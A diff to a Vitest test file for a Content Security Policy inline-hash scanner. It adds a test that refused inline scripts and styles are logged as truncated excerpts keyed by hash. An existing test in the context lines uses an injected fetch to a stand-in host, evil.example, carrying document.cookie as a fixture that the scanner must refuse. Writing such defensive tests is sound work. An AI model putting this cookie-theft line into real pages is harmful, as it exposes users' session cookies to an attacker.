@@ -1,7 +1,15 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { preferencesBootScript } from '@/components/accessibility/preferences';
-import { cspHash, inlineElements, isBuiltStylesheet, isExecutableScript, isNextFlightScript, scanInline } from './inline-hashes';
+import {
+  cspHash,
+  inlineElements,
+  isBuiltStylesheet,
+  isExecutableScript,
+  isNextFlightScript,
+  scanInline,
+  UNTRUSTED_EXCERPT_LENGTH,
+} from './inline-hashes';
 
 /** What a browser compares: base64 SHA-256 of the element's text (computed here independently). */
 const browserHash = (text: string) => `'sha256-${createHash('sha256').update(Buffer.from(text, 'utf8')).digest('base64')}'`;
@@ -96,6 +104,16 @@ describe('scanInline', () => {
     const scan = scanInline(injected, TRUSTED);
     expect(scan.scripts).not.toContain(browserHash('fetch("//evil.example/?"+document.cookie)'));
     expect(scan.untrustedScripts).toEqual([browserHash('fetch("//evil.example/?"+document.cookie)')]);
+  });
+
+  it('keeps the start of each refused element for the server log, by its hash', () => {
+    const long = `window.x=${'1'.repeat(UNTRUSTED_EXCERPT_LENGTH * 2)}`;
+    const scan = scanInline(`${PAGE}<script>${long}</script><style>p{color:red}</style>`, TRUSTED);
+    expect(scan.untrustedExcerpts).toEqual({
+      [browserHash(long)]: long.slice(0, UNTRUSTED_EXCERPT_LENGTH),
+      [browserHash('p{color:red}')]: 'p{color:red}',
+    });
+    expect(scanInline(PAGE, TRUSTED).untrustedExcerpts).toEqual({});
   });
 
   it('a near-copy of the boot script or flight data is not trusted', () => {
